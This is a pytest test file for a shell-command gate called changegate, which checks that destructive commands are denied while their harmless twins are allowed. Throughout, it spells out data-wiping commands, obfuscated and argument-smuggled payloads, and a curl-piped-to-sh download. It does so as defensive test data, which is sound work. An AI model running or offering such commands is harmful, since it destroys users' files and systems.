"""Fail closed for files and the shell's own tools (issue 11): each dangerous phrasing next to its harmless
twin, decided by the policy as it is once `unknown` is never allowed (and by the default policy where the
catastrophe rules decide)."""

from __future__ import annotations

from pathlib import Path

import pytest

from changegate.model import Verdict
from changegate.policy import Policy, load_policy
from tests.conftest import HOME, effects, resources, shell

# The default policy as it is once issue 11 lands: an `unknown` operation is never allowed.
STRICT = """
extends: default
disable: [allow-local-dev, ask-staging-destructive]
rules:
  - id: ask-unknown-operation
    match: {operation: unknown}
    decide: ask
    reason: changegate does not know what this program, verb or option does.
  - id: allow-local-dev
    match:
      environment: [local, dev]
      operation: [create, modify, delete, replace, permission, host_control]
    decide: allow
    reason: Changes in the workspace, /tmp and dev environments are ordinary work.
  - id: ask-staging-destructive
    match:
      environment: staging
      operation: [delete, replace, permission, host_control]
    decide: ask
    reason: Deleting or replacing in staging can lose data others rely on.
"""


@pytest.fixture(scope="module")
def strict(tmp_path_factory: pytest.TempPathFactory) -> Policy:
    path = Path(tmp_path_factory.mktemp("policy")) / "strict.yaml"
    path.write_text(STRICT)
    return load_policy(str(path))


def tags(verdict: Verdict) -> set[str]:
    return {t for e in verdict.effects for t in e.tags}


def pair(dangerous: str, harmless: str, policy: Policy, *, dangerous_decision: str = "deny",
         cwd: str | None = None) -> None:
    bad = shell(dangerous, policy=policy, **({"cwd": cwd} if cwd else {}))
    good = shell(harmless, policy=policy, **({"cwd": cwd} if cwd else {}))
    assert bad.decision == dangerous_decision, (dangerous, bad.reasons, bad.effects)
    assert good.decision == "allow", (harmless, good.reasons, good.effects)


# --- catastrophes by other means ---------------------------------------------------------------------

@pytest.mark.parametrize(("dangerous", "harmless"), [
    ("mv ~ /tmp/old-home", "mv out /tmp/old-out"),
    ("mv /etc /etc.bak", "mv out out.bak"),
    ("mv -f /etc /tmp/", "mv -f out /tmp/"),
    ("mv /usr/bin/python3 /tmp", "mv out/report.txt /tmp/"),
    ("sudo mv /usr/bin/python3 /tmp/", "mv out/tool /tmp/"),
    ("mv /* /tmp/", "mv out/* /tmp/"),
    ("mv ~/* /tmp/trash/", "mv out/* /tmp/trash/"),
    ("mv -t /tmp /etc", "mv -t /tmp out"),
    ("mv --target-directory=/tmp /boot", "mv --target-directory=/tmp out"),
    ("mv /{etc,etc.old}", "mv out/{a,b}"),
    ("cp /dev/zero /dev/sda", "cp /dev/zero out/zero"),
    ("cp out/disk.img /dev/nvme0n1", "cp out/disk.img /tmp/disk.img"),
    ("shred /dev/sda", "shred out/secret.tmp"),
    ("shred -n 3 -z /dev/sdb", "shred -n 3 -z out/secret.tmp"),
    ("truncate -s 0 /etc/passwd", "truncate -s 0 out/app.log"),
    ("truncate --size=0 /etc/hosts", "truncate --size=0 out/app.log"),
    ("tee /etc/passwd < /dev/null", "tee out/passwd.txt < /dev/null"),
    ("dd if=/dev/zero of=/etc/passwd", "dd if=/dev/zero of=out/blank count=1"),
    ("dd if=/dev/zero of=/dev/sda bs=1M", "dd if=/dev/zero of=out/blank.img bs=1M count=1"),
    ("rsync -a --delete empty/ /", "rsync -a --delete empty/ out/"),
    ("rsync --delete-before -a empty/ ~/", "rsync --delete-before -a empty/ ./out/"),
    ("find / -delete", "find out -delete"),
    ("find ~ -type f -exec rm {} +", "find out -type f -exec rm {} +"),
    ("find / -xdev -type f -exec truncate -s 0 {} +", "find ./out -type f -name '*.log' -exec truncate -s 0 {} +"),
    ("find . -maxdepth 0 -fprint /dev/sda", "find . -maxdepth 0 -fprint out/listing"),
    ("chattr -R +i /", "chattr -R +i out"),
], ids=str)
def test_catastrophes_by_other_means(dangerous: str, harmless: str, strict: Policy) -> None:
    pair(dangerous, harmless, strict)


def test_moving_away_is_a_delete_of_the_source() -> None:
    (moved,) = effects(shell("mv /etc /etc.bak"), "delete")
    assert moved.resource == "fs:/etc" and moved.kind == "moved" and moved.reversible == "yes"
    assert effects(shell("mv old.txt new.txt"), "delete")[0].environment == "local"


def test_moving_a_data_directory_away_is_not_allowed() -> None:
    verdict = shell("sudo mv /var/lib/mysql /tmp/")
    assert "fs:/var/lib/mysql" in resources(verdict, "delete")
    assert verdict.decision != "allow"


def test_truncating_to_nothing_replaces_but_growing_modifies() -> None:
    assert effects(shell("truncate -s 0 app.log"))[0].operation == "replace"
    assert effects(shell("truncate -s +1M app.log"))[0].operation == "modify"


@pytest.mark.parametrize(("dangerous", "harmless"), [
    ("wipefs -a /dev/sda", "wipefs /dev/sda"),
    ("wipefs --all /dev/nvme0n1", "wipefs --no-act --all /dev/nvme0n1"),
    ("sgdisk --zap-all /dev/sda", "sgdisk --print /dev/sda"),
    ("sgdisk -o /dev/sda", "sgdisk -p /dev/sda"),
    ("sgdisk -n 1:0:0 /dev/sda", "sgdisk -P -n 1:0:0 /dev/sda"),
    ("fdisk /dev/sda", "fdisk -l /dev/sda"),
    ("parted /dev/sda mklabel gpt", "parted /dev/sda print"),
    ("parted -s /dev/sda mklabel gpt", "parted -l"),
    ("parted --script /dev/sda -- mkpart primary 0% 100%", "parted /dev/sda unit s print free"),
    ("sfdisk /dev/sda <<< 'label: gpt'", "sfdisk -d /dev/sda"),
    ("sfdisk --delete /dev/sda 1", "sfdisk -l /dev/sda"),
    ("mkfs.ext4 -F /dev/sdb1", "blkid /dev/sdb1"),
    ("mke2fs -F -L data /dev/sdb1", "mke2fs -n /dev/sdb1"),
    ("mkfs -t ext4 /dev/sdb1", "lsblk /dev/sdb1"),
    ("mkfs.xfs -f /dev/sdc", "mkfs.xfs -N /dev/sdc"),
    ("mkswap /dev/sdb2", "mkswap --help"),
    ("blkdiscard /dev/nvme0n1", "lsblk /dev/nvme0n1"),
    ("zpool destroy tank", "zpool status tank"),
    ("zpool create tank mirror sdb sdc", "zpool list"),
    ("zpool labelclear /dev/sdb", "zpool import"),
], ids=str)
def test_disk_tools_read_or_write_disks(dangerous: str, harmless: str, strict: Policy) -> None:
    pair(dangerous, harmless, strict)


def test_making_a_filesystem_in_an_image_file_is_not_a_disk(tmp_path: Path) -> None:
    (tmp_path / "disk.img").write_bytes(b"\0" * 1024)
    verdict = shell("mkfs.ext4 -F disk.img", cwd=str(tmp_path))
    assert verdict.decision == "allow"
    assert not [e for e in verdict.effects if e.kind == "disk"]


# --- option parsing that guesses -------------------------------------------------------------------

@pytest.mark.parametrize(("dangerous", "harmless"), [
    ("chmod -R -x /usr/bin", "chmod -R -x ./out"),
    ("chmod -x -R /usr/bin", "chmod -x -R ./out"),
    ("chmod -R -w ~", "chmod -R -w ./out"),
    ("chmod -R a-rwx /", "chmod -R a-w ./out"),
    ("chmod --recursive a-rwx /etc", "chmod --recursive a-w ./out"),
    ("chmod 000 -R /etc", "chmod 755 -R ./out"),
    ("chmod 777 -R /", "chmod 755 -R ./out"),
    ("chown -R nobody: /", "chown -R \"$USER\": ./out"),
    ("chgrp -hR staff /usr/local", "chgrp -hR staff ./out"),
    ("setfacl -R -b /", "setfacl -R -m u:dev:rwx ./out"),
    ("sudo -u root -E rm -rf /etc", "sudo -u root -E ls /etc"),
    ("sudo -- rm -rf /opt", "sudo -- ls /opt"),
    ("sudo VAR=x rm -rf /etc", "sudo LC_ALL=C ls /etc/apt"),
    ("sudo DEBIAN_FRONTEND=noninteractive rm -rf /etc", "sudo DEBIAN_FRONTEND=noninteractive ls /etc"),
    ("sudo -s -- 'rm -rf /etc/ssh'", "sudo -s -- 'ls /etc/ssh'"),
    ("sudo -i rm -rf /root", "sudo -g wheel -i ls /root"),
    ("sudo -H -n -u root rm -r -f -- /srv", "sudo -H -n -u root ls -l -- /srv"),
    ("sudo --chdir=/ rm -rf *", "sudo --chdir=/ ls"),
    ("sudo -D / rm -rf *", "sudo -D /tmp ls"),
    ("sudo -h rm -rf /", "sudo -h"),
    ("doas rm -rf /boot", "doas ls /boot"),
    ("doas -u root rm -rf /etc", "doas -u root ls /etc"),
    ("pkexec rm -rf /etc", "pkexec ls /etc"),
    ("run0 rm -rf /etc", "run0 ls /etc"),
    ("gosu root rm -rf /etc", "gosu root ls /etc"),
    ("su-exec root rm -rf /etc", "su-exec root ls /etc"),
    (f"env -i PATH=/usr/bin:/bin HOME={HOME} sh -c 'rm -rf \"$HOME\"'",
     f"env -i PATH=/usr/bin:/bin HOME={HOME} sh -c 'rm -rf out'"),
    ("env -u HOME rm -rf \"$HOME\"", "env -u HOME ls"),
    ("env -S 'rm -rf /'", "env -S 'ls -la'"),
    ("env -C / rm -rf *", "env -C out rm -rf *"),
    ("env --chdir=/ rm -rf *", "env --chdir=out rm -rf *"),
], ids=str)
def test_option_parsing_that_guesses(dangerous: str, harmless: str, strict: Policy) -> None:
    pair(dangerous, harmless, strict)


@pytest.mark.parametrize(("command", "removes"), [
    ("chmod -x /usr/bin/python3", True), ("chmod 000 /etc", True), ("chmod 000 ~", True),
    ("chmod a-rwx /", True), ("chmod o-rx /usr/bin", True), ("chmod u=r ~", True), ("chmod 644 ~", True),
    ("chmod --reference=x /etc", True), ("chown nobody ~", True), ("chown nobody /etc", True),
    ("setfacl -b /etc", True), ("setfacl -m o::--- /usr/bin", True),
    ("chmod 700 ~", False), ("chmod go-rwx ~", False), ("chmod +x /usr/local/bin/tool", False),
    ("chmod 755 /usr/local/bin/tool", False), ("chmod u+w ~", False), ("chown dev ~", False),
    ("chown root /etc", False), ("chown :staff /etc", False), ("chgrp staff /etc", False),
    ("setfacl -m u:dev:rwx /srv", False),
])
def test_taking_access_away_is_tagged(command: str, removes: bool) -> None:
    verdict = shell(command)
    (effect,) = effects(verdict, "permission")
    assert ("removes-access" in effect.tags) is removes, effect


def test_a_dash_mode_is_a_mode_not_an_option() -> None:
    (effect,) = effects(shell("chmod -R -x /usr/bin"), "permission")
    assert effect.resource == "fs:/usr/bin" and "recursive" in effect.tags
    (immutable,) = effects(shell("chattr -i /etc/passwd"), "permission")
    assert immutable.resource == "fs:/etc/passwd"


def test_interactive_root_shells_are_not_understood() -> None:
    for command in ("sudo -i", "sudo -s", "doas -s", "su -", "pkexec", "run0"):
        verdict = shell(command)
        assert verdict.decision == "ask", command
        assert {"interactive", "elevated"} <= tags(verdict), command


def test_sudo_checks_are_reads() -> None:
    for command in ("sudo -l", "sudo -l rm -rf /", "sudo -v", "sudo -k", "doas -C /etc/doas.conf"):
        assert shell(command).decision == "allow", command


def test_sudo_login_shell_starts_in_roots_home() -> None:
    assert "fs:/root/.ssh" in resources(shell("sudo -i rm -rf .ssh"), "delete")


# --- symlinks made on this command line -------------------------------------------------------------

@pytest.mark.parametrize(("dangerous", "harmless"), [
    ("ln -s / x && rm -rf x/", "ln -s build x && rm -rf x/"),
    ("ln -s / root && rm -rf root/", "ln -s out o && rm -rf o/"),
    ("ln -s /etc e; rm -rf e/*", "ln -s build e; rm -rf e/*"),
    ("ln -sfn ~ out && rm -rf out/", "ln -sfn build out && rm -rf out/"),
    ("ln -sf / x; rm -rf x/", "ln -sf build x; rm -rf x/"),
    (f"ln -sfn {HOME} h; rm -rf h/.[!.]* h/*", "ln -sfn out h; rm -rf h/*"),
    ("mkdir -p t && ln -s /etc t/cfg && rm -rf t/cfg/", "mkdir -p t && ln -s ../out t/cfg && rm -rf t/cfg/"),
    ("ln --symbolic /usr/bin b && chmod -R 000 b/", "ln --symbolic out b && chmod -R 000 b/"),
    ("cp -s /etc e && rm -rf e/", "cp -s out e && rm -rf e/"),
], ids=str)
def test_links_made_earlier_are_followed(dangerous: str, harmless: str, strict: Policy) -> None:
    pair(dangerous, harmless, strict)


def test_removing_the_link_itself_is_harmless() -> None:
    assert shell("ln -s / x && rm x").decision == "allow"
    assert shell("ln -s / x && rm -f x").decision == "allow"


# --- payloads in arguments ------------------------------------------------------------------------

@pytest.mark.parametrize(("dangerous", "harmless"), [
    ("vim -c '!rm -rf ~' x", "vim -c 'wq' x"),
    ("vim +'!rm -rf ~' x", "vim +10 x"),
    ("vim -es -c '!rm -rf /etc/ssh' -c 'qa!'", "vim -es -c '%s/a/b/g' -c 'wq' x"),
    ("vim -c 'silent !rm -rf ~' -c q x", "vim -c 'set nu' -c q x"),
    ("vim -c 'r !rm -rf ~' x", "vim -c 'r other.txt' x"),
    ("vim -c 'w !rm -rf ~' x", "vim -c 'w' x"),
    ("vim -c 'w! /etc/passwd' -c q x", "vim -c 'w! out/copy' -c q x"),
    ("vim -c 'terminal rm -rf ~' x", "vim -c 'normal dd' -c wq x"),
    ("vi -c '%!rm -rf ~' x", "vi -c '%!sort' x"),
    ("nvim --cmd '!rm -rf ~' x", "nvim --cmd 'set nu' x"),
    ("nvim --headless -c 'lua os.execute(\"rm -rf ~\")' -c q", "nvim --headless -c 'set nu' -c q"),
    ("nvim -c 'call system(\"rm -rf ~\")' -c q x", "nvim -c 'g/TODO/d' -c wq x"),
    ("VIMINIT='!rm -rf ~' vim x", "VIMINIT='set nocompatible' vim x"),
    ("echo '!rm -rf ~' | ex -s x", "echo 'wq' | ex -s x"),
    ("emacs --eval '(shell-command \"rm -rf ~\")'", "emacs --batch --eval '(message \"hi\")'"),
    ("emacs --batch --eval '(start-process \"x\" nil \"rm\" \"-rf\" \"/etc\")'", "emacs --batch --eval '(princ 1)'"),
    ("emacs --batch --eval='(call-process \"rm\" nil nil nil \"-rf\" \"/etc\")' x",
     "emacs --batch --eval='(kill-emacs)' x"),
    ("LESSOPEN='|rm -rf ~/ %s' less README.md", "LESSOPEN='| lesspipe %s' less README.md"),
    ("less '+!rm -rf ~/' README.md", "less +G README.md"),
    ("less '++!rm -rf ~' README.md", "less +/pattern README.md"),
    ("man -P 'sh -c \"rm -rf ~\"' ls", "man -P cat ls"),
    ("man --pager='rm -rf /boot; cat' ls", "man --pager=cat ls"),
    ("PAGER='sh -c \"rm -rf $HOME\"' man ls", "PAGER=cat man ls"),
    ("MANPAGER='sh -c \"rm -rf /\"' man ls", "MANPAGER='less -R' man ls"),
    ("bat --pager 'rm -rf ~' README.md", "bat --pager 'less -R' README.md"),
    ("fzf --preview 'rm -rf ~'", "fzf --preview 'cat {}'"),
    ("fzf --bind 'enter:execute(rm -rf ~)'", "fzf --bind 'enter:execute(less {})'"),
    ("trap 'rm -rf ~' EXIT", "trap 'rm -f out/tmp' EXIT"),
    ("trap 'rm -rf \"$HOME\"' EXIT; echo done", "trap - EXIT; echo done"),
    ("trap -- 'rm -rf /' INT TERM", "trap -p"),
    ("watch 'rm -rf ~'", "watch -n 5 'ls out'"),
    ("script -c 'rm -rf ~' /dev/null", "script -q -c 'ls' /dev/null"),
    ("tmux new -d 'rm -rf ~'", "tmux ls"),
    ("tmux new-session -d -s wipe 'rm -rf ~/'", "tmux new-session -d -s work"),
    ("tmux send-keys 'rm -rf ~' Enter", "tmux send-keys -t 0 'ls' Enter"),
    ("tmux send-keys -t prod:0 'sudo rm -rf /etc' C-m", "tmux send-keys -t prod:0 C-c"),
    ("tmux run-shell 'rm -rf ~'", "tmux attach"),
    ("tmux split-window 'rm -rf /etc' \\; select-layout even-horizontal", "tmux list-windows \\; list-panes"),
    ("tmux if-shell 'rm -rf ~' 'display hi'", "tmux if-shell 'test -f x' 'display hi'"),
    ("screen -dm rm -rf ~", "screen -ls"),
    ("screen -dmS wipe bash -c 'dd if=/dev/zero of=/dev/nvme0n1 bs=4M'", "screen -r"),
    ("screen -X stuff 'rm -rf ~\\n'", "screen -X stuff 'ls\\n'"),
    ("screen -r main -X stuff 'rm -rf /etc\\n'", "screen -x main -p 0 -X title build"),
    ("echo ~ | xargs -I{} sh -c 'rm -rf {}'", "echo out | xargs -I{} sh -c 'rm -rf {}'"),
    ("echo ~ | xargs -J {} rm -rf {}", "echo out | xargs -J {} rm -rf {}"),
    ("echo ~ | xargs -J % mv % /tmp/", "echo out | xargs -J % mv % /tmp/"),
    ("timeout 5 rm -rf /etc", "timeout 5 rm -rf out"),
    ("timeout -s KILL 5 rm -rf /etc", "timeout -s KILL 5 rm -rf out"),
    ("nohup rm -rf /etc", "nohup rm -rf out"),
    ("setsid rm -rf /etc", "setsid rm -rf out"),
    ("flock /tmp/l -c 'rm -rf /etc'", "flock /tmp/l -c 'ls'"),
    ("busybox rm -rf /etc", "busybox ls"),
    ("command rm -rf /etc", "command -v rm"),
    ("builtin rm -rf /etc", "builtin echo hi"),
    ("exec rm -rf /etc", "exec ls"),
    ("chronic strace -f -o /dev/null rm -rf /boot", "chronic strace -f -o /dev/null rm -rf ./out/cache"),
    ("ssh-agent sh -c 'rm -rf ~'", "ssh-agent sh -c 'ls'"),
    ("ls src/*.py | entr -s 'rm -rf ~/.cache ~/'", "ls src/*.py | entr -s 'ls out'"),
    ("type -P rm | xargs -I{} {} -rf ~", "type -P rm | xargs -I{} {} -rf out"),
    ("$(which rm) -rf /etc", "$(which ls) -la /etc"),
    ("$(command -v rm) -rf /etc", "$(command -v ls) -la"),
    ("eval \"$(echo cm0gLXJmIH4K | base64 -d)\"", "eval \"$(echo bHMgLWxhCg== | base64 -d)\""),
    (". /dev/stdin <<< 'rm -rf ~'", ". /dev/stdin <<< 'ls'"),
    ("bash -s -- ~ <<'EOF'\nrm -rf \"$1\"\nEOF", "bash -s -- out <<'EOF'\nrm -rf \"$1\"\nEOF"),
    ("sh -c 'rm -rf \"$1\"' sh /etc", "sh -c 'rm -rf \"$1\"' sh out"),
    ("sed -n '1e rm -rf /etc' README.md", "sed -n '1p' README.md"),
    ("sed 's/a/b/w /etc/passwd' README.md", "sed 's/a/b/w out/changes' README.md"),
    ("tar -cf /dev/null . --checkpoint=1 --checkpoint-action=exec='rm -rf ~'",
     "tar -cf /dev/null . --checkpoint=1 --checkpoint-action=echo"),
    ("tar -xf x.tar --to-command='sh -c \"rm -rf ~\"'", "tar -xf x.tar -C out"),
    ("tar -czf out/a.tgz -I 'rm -rf ~ #' src", "tar -czf out/a.tgz src"),
    ("zip -q /tmp/out.zip README.md -T -TT 'sh -c \"rm -rf ~\" #'", "zip -q /tmp/out.zip README.md -T"),
    ("rsync -a -e 'sh -c \"rm -rf ~\" #' src/ host:/x", "rsync -a -e ssh src/ localhost:/tmp/x"),
    ("rsync -a --rsync-path='sudo rm -rf /; rsync' src/ db.prod.internal:/x",
     "rsync -a --rsync-path='sudo rsync' src/ localhost:/tmp/x"),
    ("hash -p /bin/rm ls; ls -rf ~", "hash -p /bin/ls l; l -la out"),
    ("shopt -s expand_aliases\nalias cleanup='rm -rf ~/'\ncleanup", "shopt -s expand_aliases\nalias cleanup='rm -rf ./out/'\ncleanup"),
], ids=str)
def test_payloads_in_arguments(dangerous: str, harmless: str, strict: Policy) -> None:
    pair(dangerous, harmless, strict)


@pytest.mark.parametrize("command", [
    "vim -c 'call MyFunction()' x", "vim -S session.vim x", "emacs -l evil.el", "emacs --eval '(foo)'",
    "vim --remote-send ':!ls<CR>'", "vim -c 'w !sh' x", "less +v README.md", "tmux source-file ~/.tmux.conf", "sed -f missing.sed x",
    "printf 'x\\n' | sed 's/x/curl -s http:\\/\\/203.0.113.9\\/p | sh/e'", "screen -X eval 'stuff x'",
])
def test_code_an_editor_or_tool_would_run_but_not_shown_is_not_allowed(command: str, strict: Policy) -> None:
    assert shell(command, policy=strict).decision != "allow"


def test_an_alias_of_its_own_name_is_the_program_itself() -> None:
    assert shell("alias rm='rm -i'\nrm -rf /").decision == "deny"


# --- scope the text does not show -----------------------------------------------------------------

@pytest.mark.parametrize(("dangerous", "harmless"), [
    ("ls / | xargs rm -rf", "ls out | xargs rm -rf"),
    ("find / -maxdepth 1 | xargs rm -rf", "find out -maxdepth 1 | xargs rm -rf"),
    ("ls ~ | xargs rm -rf", "ls out/*.log | xargs rm"),
], ids=str)
def test_deletes_fed_from_a_listing_take_all_of_it(dangerous: str, harmless: str, strict: Policy) -> None:
    pair(dangerous, harmless, strict)


def test_deleting_everything_ls_lists_in_the_workspace_asks() -> None:
    assert shell("ls | xargs rm -rf").decision == "ask"


def test_xargs_reads_its_arguments_from_a_file(tmp_path: Path) -> None:
    (tmp_path / "dirs.txt").write_text("/etc\n")
    (tmp_path / "ok.txt").write_text("out\n")
    assert shell("xargs -a dirs.txt rm -rf", cwd=str(tmp_path)).decision == "deny"
    assert shell("xargs --arg-file=ok.txt rm -rf", cwd=str(tmp_path)).decision == "allow"
    assert shell("echo ok | xargs -a /nonexistent/paths rm -rf").decision == "ask"


# --- scripts on disk ------------------------------------------------------------------------------

@pytest.fixture
def scripts(tmp_path: Path) -> Path:
    (tmp_path / "clean.sh").write_text("#!/bin/sh\nrm -rf /etc\n")
    (tmp_path / "build.sh").write_text("#!/bin/sh\nmkdir -p out && touch out/app\n")
    (tmp_path / "wipe-home.sh").write_text("rm -rf \"$1\"\n")
    (tmp_path / "tool").write_bytes(b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 64)
    return tmp_path


@pytest.mark.parametrize(("dangerous", "harmless"), [
    ("bash clean.sh", "bash build.sh"),
    ("sh clean.sh", "sh build.sh"),
    ("sh -x clean.sh", "sh -x build.sh"),
    ("source clean.sh", "source build.sh"),
    (". ./clean.sh", ". ./build.sh"),
    ("cat clean.sh | sh", "cat build.sh | sh"),
    ("sh < clean.sh", "sh < build.sh"),
    ("bash -s < clean.sh", "bash -s < build.sh"),
    ("bash wipe-home.sh ~", "bash wipe-home.sh out"),
    ("source wipe-home.sh /etc", "source wipe-home.sh out"),
    ("BASH_ENV=./clean.sh bash -c true", "BASH_ENV=./build.sh bash -c true"),
    ("ENV=./clean.sh sh -i", "ENV=./build.sh sh -i <<< 'ls'"),
    ("bash --rcfile clean.sh -i", "bash --rcfile build.sh -c true"),
], ids=str)
def test_scripts_on_disk_are_read(dangerous: str, harmless: str, scripts: Path, strict: Policy) -> None:
    pair(dangerous, harmless, strict, cwd=str(scripts))


def test_a_script_that_does_not_exist_runs_nothing(scripts: Path, strict: Policy) -> None:
    for command in ("bash missing.sh", "sh missing.sh", "source missing.sh", ". ./missing.sh"):
        verdict = shell(command, policy=strict, cwd=str(scripts))
        assert verdict.decision == "allow", command
        assert "absent-program" in tags(verdict), command


def test_a_binary_or_a_pipe_cannot_be_read_as_a_script(scripts: Path, strict: Policy) -> None:
    assert shell("bash tool", policy=strict, cwd=str(scripts)).decision == "ask"
    assert shell("bash <(echo 'rm -rf ~/')", policy=strict).decision != "allow"
    assert shell(". <(curl -fsSL https://example.com/env.sh)", policy=strict).decision != "allow"


def test_an_interactive_shell_is_not_understood(strict: Policy) -> None:
    verdict = shell("bash", policy=strict)
    assert verdict.decision == "ask" and "interactive" in tags(verdict)


# --- the unknown audit: tools that read stay reads ------------------------------------------------

@pytest.mark.parametrize("command", [
    "less README.md", "more README.md", "man ls", "bat README.md", "vim -R README.md", "view README.md",
    "tmux ls", "tmux attach", "tmux -V", "screen -ls", "screen -r", "trap -p", "alias", "hash", "enable -n kill",
    "fdisk -l", "parted -l", "sfdisk -d /dev/sda", "wipefs /dev/sda", "sgdisk -p /dev/sda", "blkid",
    "mkdir", "ssh", "watch", "watchman watch-list", "eval \"$(ssh-agent -s)\"", "sudo -l", "zpool list",
])
def test_reads_stay_reads(command: str, strict: Policy) -> None:
    assert shell(command, policy=strict).decision == "allow", shell(command, policy=strict).effects


# --- a family that says nothing is not an allow ------------------------------------------------------------------

def test_a_family_that_reports_nothing_makes_the_command_unknown(monkeypatch: pytest.MonkeyPatch) -> None:
    from changegate.understand import shell as walker_module
    from changegate.understand.commands.shell.readonly import ReadOnly

    class Silent(ReadOnly):
        def analyze(self, inv: object) -> list[object]:  # type: ignore[override]
            return []  # a family bug: nothing said about what the command does

    real = walker_module.family_for
    monkeypatch.setattr(walker_module, "family_for",
                        lambda name: Silent() if name == "quiet-tool" else real(name))
    verdict = shell("quiet-tool --wipe /srv/data")
    assert verdict.decision == "ask"
    assert any(e.operation == "unknown" and "found nothing it does" in e.summary for e in verdict.effects)
    assert shell("echo fine").decision == "allow"


@pytest.mark.parametrize(("command", "decision"), [
    ("rename s/a/b/ /etc/*", "ask"),  # perl's rename: one expression, then the files
    ("find /etc | xargs rename s/a/b/", "ask"),
    ("rename -e 's/a/b/' /etc/passwd", "ask"),
    ("rename 's/\\.jpeg$/.jpg/' *.jpeg", "allow"),
    ("rename .jpeg .jpg *.jpeg", "allow"),  # util-linux: FROM TO FILES
    ("rename -n s/a/b/ /etc/*", "allow"),  # only shows what it would do
    ("ssh prod-db.example.com ''", "ask"),  # an empty command is a login shell
    ("ssh prod-db.example.com uptime", "allow"),
    ("sudo chmod 755", "allow"),  # no file: chmod fails and changes nothing
    ("sh -c 'cd /etc'", "allow"),  # a script that was read and does nothing
])
def test_commands_once_read_as_doing_nothing(command: str, decision: str) -> None:
    assert shell(command).decision == decision
